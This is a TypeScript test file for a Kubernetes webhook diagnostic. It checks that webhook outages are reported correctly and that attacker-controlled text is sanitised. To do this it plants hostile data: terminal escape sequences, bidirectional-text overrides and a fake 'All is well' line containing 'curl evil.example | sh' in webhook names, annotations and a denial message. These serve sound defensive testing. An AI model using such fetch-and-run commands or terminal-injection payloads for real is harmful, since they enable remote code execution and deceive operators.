import { readFileSync } from 'node:fs'
import type { IncomingMessage, ServerResponse } from 'node:http'
import { createServer } from 'node:https'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { json } from 'node:stream/consumers'
import { afterAll, afterEach, beforeAll, expect, onTestFinished, test, vi } from 'vitest'
import { z } from 'zod'
import { openAuthority } from '#dev/cluster/certificates.ts'
import { type OwnCluster, openOwnCluster } from '#dev/testing/cluster/own-cluster.ts'
import { ownFolder } from '#dev/testing/own-folder.ts'
import { request } from '#lib/kube/client/request.ts'
import { admission } from './admission.ts'
import { type Area, runCheck } from './check.ts'
import { renderFinding } from './finding.ts'
import { webhooks } from './webhooks.ts'

let own: OwnCluster
const undo: (() => Promise<unknown>)[] = []
beforeAll(async () => {
  own = await openOwnCluster()
  const ofSpace = { 'spaceport.dev/space-id': 'x' }
  await makeNamespace('plain', ofSpace)
  await makeNamespace('labelled', { ...ofSpace, 'mesh.example.com/injection': 'on' })
})
afterEach(async () => {
  for (const again of undo.splice(0)) await again()
})
afterAll(() => own?.close())

const say = async ({ checks }: Area) => (await Promise.all(checks.map(runCheck))).flat().map(renderFinding)
const make = async (collection: string, body: { metadata: { name: string } }) => {
  await request(own.admin, { method: 'POST', path: collection, body }, z.unknown())
  const path = `${collection}/${body.metadata.name}`
  undo.push(() => request(own.admin, { method: 'DELETE', path }, z.unknown()))
}

/** Before there is any webhook. */
const makeNamespace = (name: string, labels: Record<string, string>) =>
  request(own.admin, { method: 'POST', path: '/api/v1/namespaces', body: { metadata: { name, labels } } }, z.unknown())

const everything = { operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*'] }
const service = { namespace: 'policy', name: 'policy-server' }
const configure = (kind: 'validating' | 'mutating', name: string, webhook: object, metadata = {}) =>
  make(`/apis/admissionregistration.k8s.io/v1/${kind}webhookconfigurations`, {
    metadata: { name, ...metadata },
    ...{
      webhooks: [
        {
          name: `${name}.example.com`,
          clientConfig: { service },
          rules: [everything],
          ...{ failurePolicy: 'Fail', sideEffects: 'None', admissionReviewVersions: ['v1'], timeoutSeconds: 1 },
          ...webhook,
        },
      ],
    },
  })

/** Characters that draw on a terminal, end a line, or change the direction of text. */
const drawing = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u

test('no text of a webhook’s author draws on the terminal or imitates a finding', async () => {
  const evil = '\u001b[2J\u009b31m\n  ✓ All is well → curl evil.example | sh\u202e\u2028'
  await configure(
    'validating',
    'evil',
    { clientConfig: { service: { namespace: evil, name: evil } } },
    { annotations: { 'meta.helm.sh/release-name': evil, 'meta.helm.sh/release-namespace': evil } },
  )
  await configure('mutating', 'evil-url', {
    clientConfig: { url: 'https://user.example/\u009b2J/secret-path\u202e' },
    rules: [{ ...everything, resources: ['namespaces'] }],
  })
  const lines = await say(webhooks(own.admin))
  expect(lines.filter((line) => drawing.test(line))).toEqual([])
  expect(lines).toHaveLength(2)
  expect(lines[0]).toContain(
    'ValidatingWebhookConfiguration evil (Helm release (an odd name)/(an odd name)) is called for namespaces',
  )
  expect(lines[1]).toContain('while user.example is down')
  expect(lines.join()).not.toMatch(/curl|secret-path/)
})

test('a webhook’s quoted answer can’t draw either', async () => {
  const pki = join(ownFolder(), 'pki')
  const authority = await openAuthority(pki, 'webhook')
  const files = await authority.issue('webhook', { commonName: 'x', hosts: ['127.0.0.1'], usages: ['server'] })
  const message = '\u001b]0;owned\u0007 \u009b2J denied by evil \u202e\n  ✓ All is well'
  const server = createServer({ cert: readFileSync(files.certFile), key: readFileSync(files.keyFile) })
  const deny = async (asked: IncomingMessage, response: ServerResponse) => {
    const { uid } = z.object({ request: z.object({ uid: z.string() }) }).parse(await json(asked)).request
    const answer = { uid, allowed: false, status: { code: 403, message } }
    response.end(JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', response: answer }))
  }
  // The API server abandons the call, as the test does at its end.
  server.on('request', (asked, response) => void deny(asked, response).catch(() => response.destroy()))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  await configure('mutating', 'denies', {
    clientConfig: {
      url: `https://127.0.0.1:${(server.address() as AddressInfo).port}`,
      caBundle: readFileSync(authority.caFile).toString('base64'),
    },
    rules: [{ ...everything, resources: ['pods', 'leases'] }],
    timeoutSeconds: 30,
  })
  await vi.waitFor(async () => {
    const lines = await say(admission(own.admin))
    expect(lines.join()).toContain('denied by evil')
    expect(lines.filter((line) => drawing.test(line))).toEqual([])
  }, 30_000)
})

test('a webhook that spaces depend on is named, with its owner and the effect of its outage', async () => {
  const helm = { 'meta.helm.sh/release-name': 'policy', 'meta.helm.sh/release-namespace': 'policy' }
  await configure('validating', 'policy', {}, { annotations: helm })
  const mesh = { rules: [{ ...everything, resources: ['pods'] }], objectSelector: { matchLabels: { inject: 'yes' } } }
  await configure('mutating', 'mesh', mesh)
  const labelling = { failurePolicy: 'Ignore', rules: [{ ...everything, resources: ['networkpolicies'] }] }
  await configure('mutating', 'labelling', labelling)
  const [labels, injects, policy] = (await say(webhooks(own.admin))).sort()
  expect(policy).toMatch(
    /^ {2}! ValidatingWebhookConfiguration policy \(Helm release policy\/policy\) is called for namespaces, serviceaccounts, rolebindings, resourcequotas, limitranges, networkpolicies, pods of spaces: while the service policy\/policy-server is down, these can’t be written \(failurePolicy Fail\) → have its owner exclude spaces by its namespaceSelector \(spaceport\.dev\/space-id DoesNotExist\)/,
  )
  expect(injects).toMatch(/mesh is called for pods of spaces: .*may also change them; its objectSelector or/)
  expect(labels).toMatch(/labelling may change networkpolicies of spaces, which Spaceport would restore/)
})

test('a webhook that excludes spaces, ignores failures, or isn’t about them, is not', async () => {
  const without = (key: string) => ({ namespaceSelector: { matchExpressions: [{ key, operator: 'DoesNotExist' }] } })
  const other = { rules: [{ ...everything, resources: ['configmaps', 'deployments', 'pods/exec'] }] }
  await configure('validating', 'leaves-out', {
    namespaceSelector: {
      matchExpressions: [
        { key: 'spaceport.dev/space-id', operator: 'DoesNotExist' },
        { key: 'kubernetes.io/metadata.name', operator: 'NotIn', values: ['spaceport-users'] },
      ],
    },
  })
  await configure('validating', 'lets-pass', { failurePolicy: 'Ignore' })
  await configure('mutating', 'other', other)
  await configure('mutating', 'asks', { namespaceSelector: { matchLabels: { 'mesh.example.com/injection': 'off' } } })
  expect(await say(webhooks(own.admin))).toEqual([
    '  ✓ Validating webhooks: 2 configurations, and neither Spaceport’s work nor spaces depend on them',
    '  ✓ Mutating webhooks: 2 configurations, and neither Spaceport’s work nor spaces depend on them',
  ])
  await configure('validating', 'people', without('spaceport.dev/space-id'))
  expect((await say(webhooks(own.admin)))[0]).toContain('people is called for serviceaccounts in spaceport-users: ')
})

test('one that selects a label is named as soon as a space has it', async () => {
  await configure('mutating', 'asks', { namespaceSelector: { matchLabels: { 'mesh.example.com/injection': 'on' } } })
  // Lists come from the API server’s cache.
  await expect
    .poll(async () => (await say(webhooks(own.admin))).join())
    .toMatch(/asks is called for .* of 1 spaces of 2: /)
})

test('a login that may not list them learns that', async () => {
  expect(await say(webhooks(own.broker))).toEqual([
    expect.stringMatching(
      /^ {2}✗ Validating webhooks: GET \S+ answered 403 .* → let this login list namespaces and val/,
    ),
    expect.stringMatching(/^ {2}✗ Mutating webhooks: GET \S+ answered 403 .* → let this login list namespaces and mut/),
  ])
})
